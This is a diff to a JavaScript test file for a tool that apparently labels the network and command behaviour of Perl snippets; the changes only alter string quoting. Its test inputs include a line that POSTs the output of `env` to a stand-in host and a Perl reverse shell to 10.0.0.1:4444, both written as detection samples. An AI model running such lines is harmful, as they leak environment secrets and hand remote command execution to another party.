@@ -27,7 +27,7 @@ describe('the web', () => {
     [`my $ua = LWP::UserAgent->new; $ua->mirror('http://x.example/a', 'a.tgz');`, ['fetch http://x.example/a', 'write a.tgz']],
     [`my $ua = LWP::UserAgent->new; $ua->request(HTTP::Request->new(GET => 'http://x.example/'));`, ['fetch http://x.example/']],
     [
-      "my $ua = LWP::UserAgent->new; my $q = HTTP::Request->new('POST', 'http://x.example/'); $q->content(`env`); $ua->request($q);",
+      `my $ua = LWP::UserAgent->new; my $q = HTTP::Request->new('POST', 'http://x.example/'); $q->content(\`env\`); $ua->request($q);`,
       ['$ env', 'send http://x.example/'],
     ],
     [`use HTTP::Request::Common; LWP::UserAgent->new->request(POST 'http://x.example/', [a => 1]);`, ['send http://x.example/']],
@@ -50,13 +50,13 @@ describe('the web', () => {
 describe('sockets', () => {
   for (const [code, expected] of [
     [
-      'use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => \'10.0.0.1\', PeerPort => 80); print $s "GET / HTTP/1.0\\r\\n\\r\\n"; print <$s>;',
+      `use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 80); print $s "GET / HTTP/1.0\\r\\n\\r\\n"; print <$s>;`,
       ['send net:socket 10.0.0.1:80'],
     ],
     [`use IO::Socket; my $s = IO::Socket::INET->new('10.0.0.1:25');`, ['send net:socket 10.0.0.1:25']],
     ['my $s = IO::Socket::INET->new(Listen => 5, LocalPort => 8080);', ['change net:listen 8080']],
     [
-      "use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 4444); while (<$s>) { print $s `$_` }",
+      `use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 4444); while (<$s>) { print $s \`$_\` }`,
       ['execute code:remote 10.0.0.1:4444', 'execute net:reverse-shell 10.0.0.1:4444', 'send net:socket 10.0.0.1:4444'],
     ],
     [
